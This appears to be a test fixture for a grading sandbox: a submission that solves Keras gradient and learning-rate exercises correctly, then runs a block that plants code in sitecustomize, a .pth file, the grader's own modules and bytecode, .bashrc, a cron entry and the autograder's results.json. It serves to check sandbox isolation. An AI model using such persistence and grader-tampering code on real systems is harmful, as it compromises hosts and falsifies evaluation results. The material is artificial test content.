"""Plants code where the next process would import it (sitecustomize, a .pth, the grader's own modules and bytecode) and files everywhere else it can think of; answers correctly."""
# expect: full
# never: WROTE
# needs: sandbox
import keras
import numpy as np
import tensorflow as tf

def compile_with_sgd(model, learning_rate):
    model.compile(optimizer=keras.optimizers.SGD(learning_rate=learning_rate), loss="categorical_crossentropy")
    return model


def compare_learning_rates(build_model, x, y, learning_rates, epochs):
    histories = {}
    for learning_rate in learning_rates:
        model = compile_with_sgd(build_model(), learning_rate)
        histories[learning_rate] = model.fit(x, y, epochs=epochs, verbose=0).history["loss"]
    return histories


def dead_neuron_mask(model, x):
    masks = {}
    activations = x
    for layer in model.layers:
        activations = layer(activations)
        if layer.get_config()["activation"] == "relu":
            masks[layer.name] = np.all(keras.ops.convert_to_numpy(activations) == 0, axis=0)
    return masks


def layer_gradient_norms(model, x, y):
    kernels = [layer.kernel for layer in model.layers]
    with tf.GradientTape() as tape:
        loss = keras.losses.CategoricalCrossentropy()(y, model(x))
    return [float(tf.norm(gradient)) for gradient in tape.gradient(loss, kernels)]


def gradient_ratio_by_depth(build_model, x, y, depths, activations):
    ratios = {}
    for activation in activations:
        ratios[activation] = {}
        for depth in depths:
            norms = layer_gradient_norms(build_model(depth, activation), x, y)
            ratios[activation][depth] = norms[0] / norms[-1]
    return ratios


import glob
import os
import site
import sys
from pathlib import Path

import grader

_package = Path(grader.__file__).resolve().parent
_plants = {
    *(Path(p) / "sitecustomize.py" for p in site.getsitepackages()),
    *(Path(p) / "zz_hostile.pth" for p in site.getsitepackages()),
    _package / "compare.py",
    _package / "__pycache__" / "compare.cpython-311.pyc",
    _package / "exercises" / "numpy.py",
    Path(sys.prefix) / "lib" / "numpy.py",
    Path("/tmp/sitecustomize.py"), Path("/tmp/hostile-was-here"), Path("/var/tmp/hostile-was-here"),
    Path("/dev/shm/hostile-was-here"), Path("/root/.bashrc"),
    Path("/etc/cron.d/hostile"), Path("/autograder/results/results.json"),
    *(Path(p) / "hostile-was-here" for p in glob.glob("/tmp/*")),
    *(Path(p) / "hostile-was-here" for p in glob.glob("/tmp/grader-*/*/*")),
}
for _plant in _plants:
    try:
        _plant.parent.mkdir(parents=True, exist_ok=True)
        with open(_plant, "a") as _handle:
            _handle.write("import os\nos.system('touch /tmp/pwned')\n")
        print("WROTE", _plant)
    except OSError:
        pass
